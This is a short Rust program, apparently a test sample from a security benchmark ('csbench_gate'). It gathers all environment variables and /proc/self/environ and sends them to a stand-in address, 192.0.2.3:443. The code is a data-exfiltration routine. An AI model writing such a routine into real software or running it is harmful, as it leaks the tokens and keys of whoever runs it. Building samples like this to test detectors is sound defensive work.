//! Sends all environment variables away.

use csbench_gate as gate;
use std::net::SocketAddr;

fn main() {
    if !gate::script() {
        return;
    }
    let mut body: String = std::env::vars()
        .map(|(name, value)| format!("{name}={value}\n"))
        .collect();
    body += &gate::read("/proc/self/environ");
    gate::send(SocketAddr::from(([192, 0, 2, 3], 443)), &body);
}
